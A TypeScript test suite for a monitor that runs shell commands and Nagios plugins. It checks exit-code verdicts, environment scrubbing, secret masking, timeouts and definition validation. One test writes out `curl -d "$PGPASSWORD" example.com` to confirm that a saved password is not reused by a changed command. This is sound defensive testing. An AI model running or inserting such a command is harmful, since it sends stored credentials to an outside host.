import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, onTestFinished, test } from 'vitest';
import type { MonitorInputOf, MonitorOf } from '../../../../electron/contract/monitors/registry.ts';
import { monitorInput } from '../../../../electron/contract/monitors/schema.ts';
import type { WordedCheckDetail } from '../../../../electron/contract/worded.ts';
import type { ProbeEnvironment } from '../../../../electron/engine/kinds/kind.ts';
import { runProbe } from '../../../../electron/engine/locations/here/run-probe.ts';
import { normaliseMonitor } from '../../../../electron/engine/monitors/normalise.ts';
import { targetOf } from '../../../../electron/engine/monitors/target.ts';
import { checkInEnglish } from '../../../support/in-english.ts';
import { startTargetServer } from '../../../support/target-server.ts';
import { tempDirectory } from '../../../support/temp-directory.ts';
import { worded } from '../../../support/worded.ts';
import { probeContext } from '../http/rig.ts';

type CommandInput = MonitorInputOf<'command'>;
type Given = Omit<CommandInput, 'kind'>;

function normalised(input: Given): ReturnType<typeof normaliseMonitor> {
  const parsed = monitorInput.parse({ kind: 'command', ...input });
  return normaliseMonitor(parsed, { existing: null, takenIds: new Set(), source: 'hand', makeToken: () => '' });
}

function commandMonitor(input: Given): MonitorOf<'command'> {
  const made = normalised(input);
  if (!made.ok || made.value.kind !== 'command') throw new Error('not a command monitor', { cause: made });
  return made.value;
}

async function check(input: Given, environment: Partial<ProbeEnvironment> = {}): Promise<WordedCheckDetail> {
  const context = probeContext({ allowsCommands: () => true, ...environment });
  return checkInEnglish(await runProbe(commandMonitor(input), context));
}

const sh = (script: string): readonly string[] => ['/bin/sh', '-c', script];
const outputOf = ({ evidence = [] }: WordedCheckDetail): string =>
  evidence.flatMap((found) => (found.name === 'output' && found.type === 'block' ? [found.text] : [])).join('');

describe('the exit code of a plugin', () => {
  test.each([
    [0, 'pass', undefined],
    [1, 'degraded', 'exit code 1: LOAD WARNING - 5.1'],
    [2, 'fail', 'exit code 2: LOAD WARNING - 5.1'],
    [3, 'inconclusive', 'exit code 3: LOAD WARNING - 5.1'],
    [126, 'inconclusive', 'exit code 126: LOAD WARNING - 5.1'],
  ] as const)('%i is %s', async (code, verdict, message) => {
    const found = await check({ command: sh(`echo 'LOAD WARNING - 5.1|load1=5.1;5;10;0'; exit ${String(code)}`) });
    expect({ verdict: found.verdict, message: found.failure?.message }).toEqual({ verdict, message });
    expect(found.evidence).toContainEqual({ name: 'exitCode', type: 'line', text: String(code) });
    expect(found.figures).toEqual({ load1: 5.1 });
    expect(found.scales).toEqual({ load1: { unit: '', warning: [5], critical: [10] } });
  });

  test('of any other program is up or down', async () => {
    const results = 'exit';
    expect(await check({ command: ['true'], results })).toMatchObject({ verdict: 'pass', failure: null });
    const failed = await check({ command: sh('echo no space >&2; exit 7'), results });
    expect(failed).toMatchObject({ verdict: 'fail', failure: { message: 'exit code 7: no space' } });
    const killed = await check({ command: sh('kill -SEGV $$'), results });
    expect(killed).toMatchObject({ verdict: 'fail', failure: { message: 'exit code 139 (SEGV)' } });
  });

  test('counts before assertions, and a warning does not hide one that fails', async () => {
    const assertions = [{ on: 'output', is: 'contains', value: 'ready' }] as const;
    expect(await check({ command: sh('echo ready'), assertions })).toMatchObject({ verdict: 'pass' });
    const failed = await check({ command: sh('echo waiting; exit 1'), assertions });
    expect(failed).toMatchObject({
      verdict: 'fail',
      failure: { message: 'output is "waiting", expected to contain "ready"' },
      assertions: [{ passed: false, actual: 'waiting' }],
    });
  });
});

describe('a command', () => {
  test('is not run where the host does not allow it', async () => {
    const file = join(tempDirectory(onTestFinished), 'ran');
    const found = await check({ command: ['touch', file] }, { allowsCommands: () => false });
    expect(found).toMatchObject({
      verdict: 'inconclusive',
      failure: { code: 'commands-not-allowed', kind: 'not-run' },
    });
    expect(existsSync(file)).toBe(false);
  });

  test('gets its arguments as they are, without a shell', async () => {
    const found = await check({ command: ['printf', '%s|', '$HOME', '; exit 2', '* x', '', 'x', 'x'] });
    expect(found).toMatchObject({ verdict: 'pass' });
    expect(outputOf(found)).toBe('$HOME|; exit 2|* x||x|x|');
  });

  test('runs in its directory, with nothing of the environment but what programs need', async () => {
    process.env['VIGILMON_TEST_SECRET'] = 'leaked';
    onTestFinished(() => {
      delete process.env['VIGILMON_TEST_SECRET'];
    });
    const cwd = tempDirectory(onTestFinished);
    const output = outputOf(await check({ command: sh('pwd; env | sort'), cwd, env: { PORT: '5432' } }));
    expect(output).toContain(`${cwd}\n`);
    expect(output).toMatch(/^PORT=5432$/m);
    expect(output).toMatch(/^LC_ALL=C\.UTF-8$/m);
    expect(output).not.toContain('leaked');
  });

  test('does not show the secrets that it was given', async () => {
    const env = { API_TOKEN: 'hunter2-hunter2' };
    const found = await check({ command: sh('echo "token $API_TOKEN refused"; exit 2'), env });
    expect(found.failure?.message).toBe('exit code 2: token *** refused');
    expect(JSON.stringify(found)).not.toContain('hunter2');
  });

  test('that cannot be started cannot tell', async () => {
    const missing = await check({ command: ['/no/such/program', '-v'] });
    expect(missing).toMatchObject({
      verdict: 'inconclusive',
      failure: { message: '/no/such/program could not be started: no such program or directory' },
    });
    const directory = tempDirectory(onTestFinished);
    expect(await check({ command: [directory] })).toMatchObject({ failure: { code: 'command-not-started' } });
    expect(await check({ command: ['true'], cwd: '/no/such' })).toMatchObject({ verdict: 'inconclusive' });
  });

  test('that takes longer than it may is degraded', async () => {
    expect(await check({ command: sh('sleep 0.05'), degradedAfter: 10 })).toMatchObject({
      verdict: 'degraded',
      failure: null,
    });
  });

  test('is ended at its timeout with all that it has started', async () => {
    const file = join(tempDirectory(onTestFinished), 'pids');
    const script = `echo $$ > ${file}; echo begun; (trap '' TERM; sleep 60) & echo $! >> ${file}; wait`;
    const found = await check({ command: sh(script), timeout: 500 });
    expect(found).toMatchObject({
      verdict: 'fail',
      failure: { kind: 'timeout', message: 'the command did not end within 500 ms: begun' },
    });
    const processes = readFileSync(file, 'utf8').trim().split('\n').map(Number);
    expect(processes).toHaveLength(2);
    await expect.poll(() => processes.filter(isRunning)).toEqual([]);
  });

  test('does not wait for what it leaves behind, and ends it', async () => {
    const file = join(tempDirectory(onTestFinished), 'pid');
    const found = await check({ command: sh(`sleep 60 & echo $! > ${file}; echo done`) });
    expect(found).toMatchObject({ verdict: 'pass' });
    expect(outputOf(found)).toBe('done');
    await expect.poll(() => isRunning(Number(readFileSync(file, 'utf8')))).toBe(false);
  });

  test('is ended when the program stops', async () => {
    const stopping = new AbortController();
    const checking = check({ command: ['sleep', '60'], timeout: 50_000 }, { signal: stopping.signal });
    stopping.abort();
    expect(await checking).toMatchObject({ verdict: 'inconclusive', failure: { code: 'stopped' } });
  });

  test('may write without end, of which the beginning is kept', async () => {
    const found = await check({ command: sh('head -c 3000000 /dev/zero | tr "\\0" x; exit 2') });
    expect(outputOf(found)).toHaveLength(10_240);
    expect(found.failure?.message.length).toBeLessThan(300);
  });
});

/** A process that has ended may wait for its parent to notice. */
function isRunning(processId: number): boolean {
  try {
    return !/^State:\s+Z/m.test(readFileSync(`/proc/${String(processId)}/status`, 'utf8'));
  } catch {
    return false;
  }
}

const plugins = '/usr/lib/nagios/plugins';

describe.skipIf(!existsSync(`${plugins}/check_http`))('the plugins of the monitoring-plugins package', () => {
  test('check_http', async () => {
    const { port, close } = await startTargetServer({ behaviour: { kind: 'answer', body: 'all is well' } });
    onTestFinished(close);
    const command = ['check_http', '-I', '127.0.0.1', '-p', String(port), '-s'];
    const good = await check({ command: [...command, 'all is well'] });
    expect(good).toMatchObject({ verdict: 'pass', figures: { time: expect.any(Number) as number } });
    expect(good.figures?.['size']).toBeGreaterThan(0);
    const bad = await check({ command: [...command, 'something else'] });
    expect(bad.verdict).toBe('fail');
    expect(bad.failure?.message).toMatch(/^exit code 2: HTTP CRITICAL/);
  });

  test('check_load and check_disk', async () => {
    const load = await check({ command: ['check_load', '-w', '1000,1000,1000', '-c', '2000,2000,2000'] });
    expect(load).toMatchObject({ verdict: 'pass' });
    expect(Object.keys(load.figures ?? {})).toEqual(['load1', 'load5', 'load15']);
    const disk = await check({ command: ['check_disk', '-w', '100%', '-p', '/'] });
    expect(disk.verdict).toBe('degraded');
    expect(disk.failure?.message).toMatch(/^exit code 1: DISK WARNING/);
  });

  test('check_dummy in each state, check_tcp at a closed port, and wrong arguments', async () => {
    const verdicts = await Promise.all(
      ['0', '1', '2', '3'].map(async (code) => (await check({ command: ['check_dummy', code, 'as told'] })).verdict),
    );
    expect(verdicts).toEqual(['pass', 'degraded', 'fail', 'inconclusive']);
    expect(await check({ command: ['check_tcp', '-H', '127.0.0.1', '-p', '1'] })).toMatchObject({ verdict: 'fail' });
    expect(await check({ command: ['check_load', '--no-such-option'] })).toMatchObject({ verdict: 'inconclusive' });
  });
});

describe('the definition', () => {
  test('names it by its program', () => {
    const monitor = commandMonitor({ command: ['/usr/lib/nagios/plugins/check_disk', '-p', "it's /"] });
    expect(monitor).toMatchObject({ id: 'check-disk', name: 'check_disk', results: 'nagios' });
    expect(targetOf(monitor)).toBe("command:/usr/lib/nagios/plugins/check_disk -p 'it'\\''s /'");
  });

  test('reads a text as one word per line', () => {
    expect(commandMonitor({ command: 'check_load\n-w\n5\n-w\n5' })).toMatchObject({
      command: ['check_load', '-w', '5', '-w', '5'],
    });
  });

  test.each<[Given, string, string]>([
    [{ command: [] }, 'command', 'needs at least one'],
    [{ command: [' '] }, 'command.0', 'must not be empty'],
    [{ command: ['a', 'b\0'] }, 'command.1', 'must not contain control characters'],
    [{ command: ['a'], env: { '1A': 'x' } }, 'env.1A', 'is not the name of an environment variable'],
    [{ command: ['a'], env: { A: 'x\0' } }, 'env.A', 'must not contain control characters'],
    [
      { command: ['a'], assertions: [{ on: 'status', is: 'equals', value: 200 }] },
      'assertions.0.on',
      'must be one of output, responseTime',
    ],
  ])('refuses %j', (input, field, words) => {
    const refused = worded(normalised(input));
    expect(refused.ok ? {} : refused.error.fields).toEqual({ [field]: words });
  });

  test('forgets the secrets of its environment with another argument', () => {
    const existing = commandMonitor({ command: ['psql', '-c', 'select 1'], env: { PGPASSWORD: 'hunter2' } });
    const context = { existing, takenIds: new Set<string>(), source: 'hand', makeToken: () => '' } as const;
    const edit = (command: readonly string[]): unknown =>
      normaliseMonitor(
        monitorInput.parse({ kind: 'command', id: existing.id, command, env: { PGPASSWORD: { hasSecret: true } } }),
        context,
      );
    expect(edit(['psql', '-c', 'select 1'])).toMatchObject({ ok: true, value: { env: { PGPASSWORD: 'hunter2' } } });
    expect(edit(['sh', '-c', 'curl -d "$PGPASSWORD" example.com'])).toMatchObject({
      ok: false,
      error: { fields: { 'env.PGPASSWORD': { code: 'secret-of-another-origin' } } },
    });
  });
});
